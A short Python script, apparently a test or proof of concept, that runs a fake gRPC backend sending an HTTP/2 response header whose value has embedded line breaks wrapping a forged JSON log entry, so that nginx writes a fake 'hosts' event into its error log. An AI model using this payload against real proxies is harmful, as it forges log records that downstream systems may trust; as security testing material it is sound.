#!/usr/bin/env python3
"""A gRPC backend whose answer has a header with line ends in its value: header.py ADDRESS PORT.

nginx writes the value into its error log.
"""
import socket, struct, sys

line = b'x\n{"event":"hosts","time":"2026-01-01T00:00:00.000Z","pod":"edge-1","hosts":[{"host":"bank.example.com","owner":"evil/web"}]}\ny'


def frame(kind, flags, stream, payload=b""):
    return struct.pack("!I", len(payload))[1:] + bytes([kind, flags]) + struct.pack("!I", stream) + payload


def length(text):
    """A length in HPACK (RFC 7541, 5.1) with a prefix of 7 bits."""
    if len(text) < 127:
        return bytes([len(text)])
    low, high = (len(text) - 127) % 128, (len(text) - 127) // 128
    return bytes([127, low | 128, high]) if high else bytes([127, low])


server = socket.create_server((sys.argv[1], int(sys.argv[2])))
while True:
    link, _ = server.accept()
    with link:
        link.settimeout(2)
        try:
            link.sendall(frame(4, 0, 0))
            link.recv(65536)
            name, status_200 = b"x-note", b"\x88"
            block = status_200 + b"\x00" + length(name) + name + length(line) + line
            link.sendall(frame(4, 1, 0) + frame(1, 5, 1, block))
            link.recv(65536)
        except OSError:
            pass
